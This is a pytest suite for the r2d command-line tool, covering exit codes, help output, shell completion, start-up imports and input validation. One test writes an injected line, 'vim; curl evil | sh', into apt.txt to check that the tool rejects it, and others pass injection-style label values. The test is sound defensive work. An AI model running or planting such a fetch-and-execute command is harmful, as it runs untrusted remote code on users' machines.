"""The command line: what a user types, what comes back, and how soon."""

import inspect
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from r2d import __version__, errors
from r2d.cli.main import COMMANDS
from r2d.cli.program import with_command
from r2d.testing import repository_with

HEAVY = ("docker", "jinja2", "rich", "requests")
_REPORT = (
    "import sys, atexit; atexit.register(lambda: sys.stderr.write('\\nMODULES ' + ' '.join(sys.modules)))\n"
)


def r2d(
    *words: str, folder: Path, report_modules: bool = False, **environment: str
) -> "subprocess.CompletedProcess[str]":
    program = (_REPORT if report_modules else "") + "from r2d.cli.main import main; main()"
    paths = [str(path) for path in sys.path if path]
    return subprocess.run(
        [sys.executable, "-c", program, *words],
        cwd=folder,
        env={
            "PATH": os.environ["PATH"],
            "PYTHONPATH": os.pathsep.join([str(Path(errors.__file__).parents[1]), *paths]),
            "HOME": str(folder),
            "XDG_CONFIG_HOME": str(folder / ".config"),
            # An engine or a network that is asked is an error here.
            "DOCKER_HOST": "unix:///nonexistent/engine.sock",
            "https_proxy": "http://proxy.invalid:9",
            "http_proxy": "http://proxy.invalid:9",
            **environment,
        },
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def modules(ended: "subprocess.CompletedProcess[str]") -> set[str]:
    return set(ended.stderr.rpartition("MODULES ")[2].split())


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    return repository_with(tmp_path / "project", {"requirements.txt": "six\n", "apt.txt": "git\n"}).root


# --- errors


def every_error() -> list[type[errors.R2DError]]:
    return [
        kind
        for _, kind in inspect.getmembers(errors, inspect.isclass)
        if issubclass(kind, errors.R2DError) and kind is not errors.R2DError
    ]


def test_exit_codes_are_unique() -> None:
    codes: dict[int, list[str]] = {}
    for kind in every_error():
        codes.setdefault(kind.exit_code, []).append(kind.__name__)

    assert {code: names for code, names in codes.items() if len(names) > 1} == {}


def test_the_manual_lists_every_exit_code() -> None:
    page = (Path(__file__).parents[2] / "docs" / "exit-codes.md").read_text()

    assert [kind.__name__ for kind in every_error() if f"| {kind.exit_code} |" not in page] == []


@pytest.mark.parametrize(
    ("typed", "completed"),
    [(["r2d", "bui"], "build"), (["r2d", "build", "--user-i"], "--user-id")],
)
def test_a_shell_is_told_what_completes_a_word(typed: list[str], completed: str, tmp_path: Path) -> None:
    ended = r2d(
        folder=tmp_path,
        _R2D_COMPLETE="bash_complete",
        COMP_WORDS=" ".join(typed),
        COMP_CWORD=str(len(typed) - 1),
    )

    assert f"plain,{completed}" in ended.stdout.splitlines()


def test_exit_codes_leave_room_for_bugs_signals_and_the_shell() -> None:
    assert all(2 <= kind.exit_code < 125 for kind in every_error())


def test_every_error_says_what_it_stands_for() -> None:
    assert [kind.__name__ for kind in every_error() if not kind.__doc__] == []


# --- words


@pytest.mark.parametrize(
    ("words", "meant"),
    [
        ([], []),
        (["."], ["run", "."]),
        (["./build"], ["run", "./build"]),
        (["build", "."], ["build", "."]),
        (["run", "build"], ["run", "build"]),
        (["-p", "1:2", "."], ["run", "-p", "1:2", "."]),
        (["--help"], ["--help"]),
    ],
)
def test_a_repository_without_a_command_is_run(words: list[str], meant: list[str]) -> None:
    assert with_command(words) == meant


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_a_help_that_says_what_it_does(command: str, tmp_path: Path) -> None:
    ended = r2d(command, "--help", folder=tmp_path)

    assert (ended.returncode, ended.stderr) == (0, "")
    assert f"Usage: r2d {command}" in ended.stdout
    assert "--help" in ended.stdout


def test_the_help_names_every_command(tmp_path: Path) -> None:
    ended = r2d("--help", folder=tmp_path)

    assert ended.returncode == 0
    for command, promise in COMMANDS.items():
        assert command in ended.stdout
        assert promise.split(" (")[0].split(",")[0][:30] in " ".join(ended.stdout.split())


@pytest.mark.parametrize("words", [("build",), ("plan", "--nonsense", "."), ("build", "--ref")])
def test_wrong_usage_ends_with_2_and_no_traceback(words: tuple[str, ...], tmp_path: Path) -> None:
    ended = r2d(*words, folder=tmp_path)

    assert ended.returncode == 2
    assert "Traceback" not in ended.stderr
    assert ended.stdout == ""


# --- start-up


def test_the_version_is_told_before_anything_is_imported(tmp_path: Path) -> None:
    ended = r2d("--version", folder=tmp_path, report_modules=True)

    assert ended.stdout == f"{__version__}\n"
    assert modules(ended) & {"click", "typing", *HEAVY} <= {"typing"}


def test_a_plan_imports_no_engine_no_renderer_and_no_network(repository: Path) -> None:
    ended = r2d("plan", ".", folder=repository, report_modules=True)

    assert ended.returncode == 0, ended.stderr
    assert modules(ended) & set(HEAVY) == set()


# --- commands


def test_a_plan_is_on_standard_output_and_nothing_else_is(repository: Path) -> None:
    ended = r2d("plan", "--json", ".", folder=repository)

    assert ended.returncode == 0, ended.stderr
    assert json.loads(ended.stdout)["format"] == 1
    assert ended.stderr == ""


def test_a_dockerfile_is_printed_without_an_engine(repository: Path) -> None:
    ended = r2d("dockerfile", ".", "-", folder=repository)

    assert ended.returncode == 0, ended.stderr
    assert "\nFROM " in ended.stdout


def test_an_unknown_path_ends_with_4_and_names_what_looks_like_it(repository: Path) -> None:
    ended = r2d("projcet", folder=repository.parent)

    assert ended.returncode == 4
    assert "./project" in ended.stderr
    assert "Traceback" not in ended.stderr


def test_a_broken_file_is_told_with_its_line(repository: Path) -> None:
    (repository / "apt.txt").write_text("git\nvim; curl evil | sh\n")

    ended = r2d("plan", ".", folder=repository)

    assert ended.returncode == 5
    assert "apt.txt:2" in ended.stderr
    assert ended.stderr.count("vim;") == 1
    assert ended.stdout == ""


@pytest.mark.parametrize(
    "words",
    [
        ("--label", "a=two\nlines"),
        ("--label", "a$b=c"),
        ("--target-repo-dir", '/srv/"quoted"'),
        ("--target-repo-dir", "/srv/répo"),
        ("--user-name", "a b"),
        ("--user-id", "0"),
        ("--base-image", "a b"),
    ],
    ids=" ".join,
)
def test_a_value_that_no_image_can_have_is_told_as_the_users_and_not_as_a_fault_of_r2d(
    words: tuple[str, ...], repository: Path
) -> None:
    ended = r2d("dockerfile", *words, ".", "-", folder=repository)

    assert "fault of r2d" not in ended.stderr
    assert "Traceback" not in ended.stderr


def test_a_reader_that_has_seen_enough_is_no_failure(repository: Path) -> None:
    program = "from r2d.cli.main import main; main(['plan', '--json', '.'])"
    reader, writer = os.pipe()
    os.close(reader)
    try:
        ended = subprocess.run(
            [sys.executable, "-c", program],
            cwd=repository,
            env={**os.environ, "PYTHONPATH": os.pathsep.join(path for path in sys.path if path)},
            stdout=writer,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    finally:
        os.close(writer)

    assert "Traceback" not in ended.stderr
    assert "fault of r2d" not in ended.stderr
    assert "Exception ignored" not in ended.stderr
